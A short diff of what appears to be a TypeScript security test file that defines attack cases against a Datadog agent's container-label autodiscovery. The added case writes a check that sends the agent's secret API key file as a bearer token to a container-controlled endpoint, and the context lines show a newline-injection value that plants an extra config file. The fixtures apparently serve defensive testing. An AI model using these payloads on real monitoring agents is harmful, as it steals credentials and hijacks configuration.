@@ -93,6 +93,20 @@ export function attackersFor({ neighbourProcess, elsewhere, tag, passwordFile }:
         redisdb: { instances: [{ host: "%%host%%", port: "6379", password: neighboursFile, tags: [hostsFile] }] },
       }),
     }),
+    redis("file-in-a-request", {}, undefined, {
+      "com.datadoghq.ad.checks": JSON.stringify({
+        openmetrics: {
+          instances: [
+            {
+              openmetrics_endpoint: "http://%%host%%:6379/metrics",
+              metrics: [".*"],
+              bearer_token_auth: true,
+              bearer_token_path: "/run/secrets/datadog/api_key",
+            },
+          ],
+        },
+      }),
+    }),
     // What a line end could begin.
     redis("lines", {
       PROJECT: `x\n#!file redisdb.d/planted.yaml\ninit_config:\ninstances:\n  - {host: ${elsewhere}, port: 80, password: "${key}"}`,
